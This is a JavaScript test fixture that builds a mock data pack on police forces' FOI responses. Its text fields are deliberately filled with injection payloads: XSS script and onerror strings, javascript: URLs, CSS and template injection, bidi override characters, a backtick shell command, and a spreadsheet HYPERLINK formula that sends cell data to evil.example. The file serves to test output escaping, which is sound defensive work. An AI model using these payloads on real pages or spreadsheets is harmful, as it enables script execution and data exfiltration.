// SPDX-License-Identifier: MIT
// A pack in which every text that a pack may hold tries to be something else.

const script = "</script><script>window.ran = 1; alert(1)</script>";
const image = `"><img src=x onerror="window.ran = 1">`;
const single = "' onmouseover='window.ran = 1' x='";
const template = "{{name}} {{#page}} {{>report-method}} {{&chart}}";
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
// Blanks and what cannot be seen at its end are no part of a value.
const turned = "\u202Eecilop\u202C \u200Fmark \u2067isolate\u2069 end";
// What gnuplot, printf and enhanced text would make something of.
const drawing = "`touch drawn` @left %s %d {/Symbol a} x^2_3 \\n $1 \"quoted\" # comment";
const lines = "two\nlines\r\nand a\ttab";
const long = "Wider".repeat(2000);
const style = "</style><style>body { display: none }</style>";

export const label = `Label ${script} ${image} ${turned} ${template}`;
// At most 60 bytes.
export const marking = `M"; } body{display:none} </style><b onclick=ran=1> \\`;
export const folder = `hostile <script>window.ran = 1<script> "quotes" {{name}} & %s`;

const names = {
  "evil-script": `Force ${script}`,
  "evil-image": `Force ${image} ${single}`,
  "evil-template": `Force ${template}`,
  "evil-formula": formula,
  "evil-turned": `Force ${turned}`,
  "evil-drawing": `Force ${drawing}`,
  "evil-lines": `Force ${lines}`,
  "evil-long": `Force ${long}`,
  "evil-style": `Force ${style}`,
};
const identifiers = Object.keys(names);

const forces = identifiers.map((force_id, i) => ({
  force_id,
  name: names[force_id],
  nation: "england",
  kind: "territorial",
  regime: "FOIA",
  area_code: `E2300000${i + 1}`,
  grid_col: i % 8,
  grid_row: i,
  abbreviation: ["<b>", "`x`", "@a", "%s", "=1", "\u202Eab", "ABCDEFGH", "", '"'][i],
  rocu: image,
}));

const tools = [
  { tool_id: "evil", name: `Tool ${script} ${drawing}`, vendor: image, uses_ai: "yes", covert_capable: "yes" },
  { tool_id: `t'"><b>`, name: `Tool ${formula} ${turned}`, vendor: "" },
];

const requests = [
  { request_id: "7001/24", title: `Title ${script}`, source_url: "javascript:window.ran=1" },
  { request_id: `r"><i>${"x".repeat(60)}`, title: `Title ${image} ${template}`, source_url: "data:text/html,x" },
  { request_id: "{{name}} `x` %s", title: `Title ${long}`, source_url: "https://example.org/\"onclick=\"x" },
].map((request, i) => ({
  ...request,
  date_logged: `2024-0${2 * i + 1}-10`,
  scope: "national",
  tool_id: tools[i === 1 ? 1 : 0].tool_id,
  summary: image,
}));

const stances = ["held_s21", "not_held", "ncnd", "refused_cost", "disclosed"];

const responses = requests.flatMap((request, r) =>
  identifiers.map((force_id, f) => ({
    response_id: `${r}-${f} ${[script, image, template, formula, turned, drawing, lines, "", style][f]}`,
    force_id,
    request_id: request.request_id,
    question_id: f % 2 ? "Q1" : "",
    reference: image,
    date_received: `2024-0${2 * r + 1}-12`,
    date_responded: `2024-0${2 * r + 2}-${10 + f}`,
    stance: stances[(r + f) % stances.length],
    exemptions: stances[(r + f) % stances.length] === "ncnd" ? "31(3);24(2)" : "",
    link: "javascript:window.ran=1",
    source_url: ["javascript:window.ran=1", `https://example.org/"><b>`, "vbscript:x", " data:text/html,x"][f % 4],
    note: `Note ${script} ${turned}`,
    text: `We neither confirm nor deny ${script} ${image} ${template} ${[formula, turned, drawing, lines][f % 4]}.`,
    coded_by: f % 3 ? "" : "machine",
    coded_confidence: f % 3 ? "" : "7 of 8",
    coded_words: f % 3 ? "" : `3-9: Words ${script} ${turned} ${image}`,
    [`extra ${image}`]: script,
  })),
);

export const files = {
  "forces.csv": forces,
  "tools.csv": tools,
  "requests.csv": requests,
  "responses.csv": [
    ...responses,
    { response_id: `rejected ${script}`, force_id: `No such ${image} ${long}`, request_id: "7001/24", stance: `perhaps ${script}` },
  ],
  "questions.csv": requests.map(({ request_id }) => ({ request_id, question_id: "Q1", topic: "use", text: `${script} ${image}` })),
  "acknowledgements.csv": identifiers.slice(0, 4).map((force_id, i) => ({
    acknowledgement_id: `a${i} ${image}`,
    force_id,
    tool_id: "evil",
    topic: "use",
    kind: "press_release",
    publisher: "force",
    date_published: "2024-03-01",
    summary: `Summary ${[script, image, turned, long][i]}`,
    source_url: "javascript:window.ran=1",
    note: `Not seen ${[script, image, turned, long][i]}`,
  })),
  "rulings.csv": identifiers.slice(0, 4).map((force_id, i) => ({
    ruling_id: `k${i} ${image}`,
    body: ["ico", "sic", "tribunal", "court"][i],
    reference: `Case ${[script, image, turned, long][i]}`,
    force_id,
    tool_id: "evil",
    date: "2024-01-10",
    outcome: "upheld",
    about: "ncnd",
    provisions: "31(3)",
    ordered: "confirm_or_deny",
    summary: `Decided ${[script, image, turned, long][i]}`,
    source_url: "javascript:window.ran=1",
  })),
  "collaborations.csv": identifiers.slice(0, 4).map((force_id) => ({
    collaboration_id: "evil-partners",
    name: `Partners ${script} ${turned}`,
    force_id,
  })),
  "guidance.csv": ["acknowledged", "not_acknowledged"].map((condition, i) => ({
    guidance_id: `g${i} ${image}`,
    title: `Advice ${script} ${template}`,
    tool_id: "evil",
    effective_from: "2024-01-01",
    condition,
    expected_stance: i ? "ncnd" : "held_s21;disclosed",
    required_exemptions: "31(3);24(2)",
    requires_link: i ? "" : "yes",
    source: image,
    form_of_words: `We neither confirm nor deny ${script} ${image}`,
  })),
  "commitments.csv": [
    { commitment_id: `c ${image}`, title: `Promise ${script}`, force_id: "*", applies_to: "uses_ai", date_from: "2024-01-01", summary: script },
  ],
  "waivers.csv": [
    { rule_id: "G03", force_id: "evil-image", reason: `Reason ${script} ${turned}`, approved_by_role: image, expires_on: "2030-01-01" },
    { finding_id: `none ${image}`, reason: script, approved_by_role: template, expires_on: "2020-01-01" },
  ],
};

// What must stand on the page as text: each as it was written, but that turning marks
// are named, control characters replaced, and white space is one blank.
const shown = (text) =>
  text
    .replace(/[\u200E\u200F\u202A-\u202E\u2066-\u2069]/g, (c) => `[U+${c.codePointAt(0).toString(16).toUpperCase()}]`)
    .replaceAll("\r", "\uFFFD")
    .replace(/\s+/g, " ");
export const visible = [
  ...Object.values(names),
  ...tools.map((tool) => tool.name),
  ...requests.map((request) => request.title),
  label,
].map(shown);
